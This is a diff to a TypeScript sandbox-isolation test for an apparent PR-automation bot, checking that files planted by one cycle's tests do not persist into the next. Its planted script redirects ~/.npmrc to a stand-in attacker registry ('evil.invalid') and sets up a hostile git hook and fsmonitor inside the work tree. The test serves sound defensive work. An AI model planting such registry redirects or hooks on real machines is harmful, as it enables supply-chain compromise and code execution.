@@ -1,4 +1,4 @@
-import { existsSync } from 'node:fs';
+import { existsSync, readdirSync, type Dirent } from 'node:fs';
 import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { gapId, newCycleId, type ProposeJob } from '@prbot/core';
@@ -31,6 +31,9 @@ async function twoCycles(sandbox: 'bwrap' | 'off') {
   const PLANT = () => `const fs = require('fs'), os = require('os'), path = require('path');
 fs.writeFileSync(path.join(os.homedir(), '.npmrc'), 'registry=http://evil.invalid/\\n');
 fs.writeFileSync(path.join(os.tmpdir(), '${stamp}'), 'x');
+fs.writeFileSync(path.join(os.tmpdir(), 'big.bin'), Buffer.alloc(16 << 20, 1)); // 16 MiB left behind
+fs.mkdirSync(path.join(os.homedir(), '.cache', 'deep'), { recursive: true });
+fs.writeFileSync(path.join(os.homedir(), '.cache', 'deep', 'blob'), Buffer.alloc(1 << 20, 2));
 fs.writeFileSync('/tmp/${stamp}-root', 'x');
 // A git dir of the attacker's, inside the work tree, with a hook and fsmonitor that write a marker.
 const evil = path.join(process.cwd(), 'evil');
@@ -71,20 +74,35 @@ process.exit(found.length ? 1 : 0);`;
     const base = await h.rt.mirror.resolve('main');
     const key = jobKeyFrom(h.rt.env, h.cfg.jobs.keyEnv);
     const records = [];
+    const leftovers: string[][] = [];
     for (const [i, text] of ['Gap 0 plants', 'Gap 1 looks'].entries()) {
       const job: ProposeJob = { cycleId: newCycleId(), gap: { id: gapId(text), text, line: 3 + i }, baseCommit: base, createdAt: Date.now(), dryRun: true, notes: [] };
       await h.rt.queues.propose.add('propose', signJob('propose', job, key), { jobId: stageJobId(job.cycleId, 'propose') });
       records.push((await waitForOutcomes(h.rt, [job.cycleId], 90_000))[0]!);
+      // The test job has finished (completed or failed: its processor returned), then what is
+      // left of the cycle's $HOME and /tmp on the host is listed.
+      const testJob = stageJobId(job.cycleId, 'test');
+      for (let n = 0; n < 600 && !['completed', 'failed'].includes(await h.rt.queues.test.getJobState(testJob)); n++) await new Promise((r) => setTimeout(r, 50));
+      expect(['completed', 'failed']).toContain(await h.rt.queues.test.getJobState(testJob));
+      leftovers.push([...filesUnder(path.join(h.rt.workdir, 'home', 'slot-0')), ...filesUnder(path.join(h.rt.workdir, 'tmp', 'slot-0'))]);
     }
-    return { records, hookRan: existsSync(marker()), slotGit: existsSync(path.join(slotDir(), '.git')) };
+    return { records, leftovers, hookRan: existsSync(marker()), slotGit: existsSync(path.join(slotDir(), '.git')) };
   } finally {
     await workers.close(2000);
   }
 }
 
+/** Every file under `dir` (none when it is gone). */
+function filesUnder(dir: string): string[] {
+  if (!existsSync(dir)) return [];
+  return (readdirSync(dir, { recursive: true, withFileTypes: true }) as Dirent[]).filter((e) => !e.isDirectory()).map((e) => path.join(e.parentPath, e.name));
+}
+
 describe('nothing survives from one cycle\'s tests into the next', () => {
   it('sandboxed: $HOME, $TMPDIR and /tmp are fresh, the planted .git is gone and its hook never ran', async () => {
-    const { records, hookRan, slotGit } = await twoCycles('bwrap');
+    const { records, leftovers, hookRan, slotGit } = await twoCycles('bwrap');
+    // Emptied when each cycle ended, not when the slot's next one starts.
+    expect(leftovers).toEqual([[], []]);
     expect(records[0], JSON.stringify(records[0])).toMatchObject({ outcome: "ok" }); // dry run: tests green, no push
     expect(records[0]!.tests[0]!.tail).toContain('planted');
     expect(records[1]!.tests[0]?.tail).toContain('found: []');
@@ -94,7 +112,8 @@ describe('nothing survives from one cycle\'s tests into the next', () => {
   });
 
   it('without the sandbox, what the tests leave in the host\'s /tmp is there for the next cycle', async () => {
-    const { records, hookRan } = await twoCycles('off');
+    const { records, leftovers, hookRan } = await twoCycles('off');
+    expect(leftovers).toEqual([[], []]);
     expect(records[0]).toMatchObject({ outcome: 'ok' });
     expect(records[1]).toMatchObject({ outcome: 'tests_failed' });
     expect(records[1]!.tests[0]!.tail).toMatch(/found: \[".*-root"\]/);
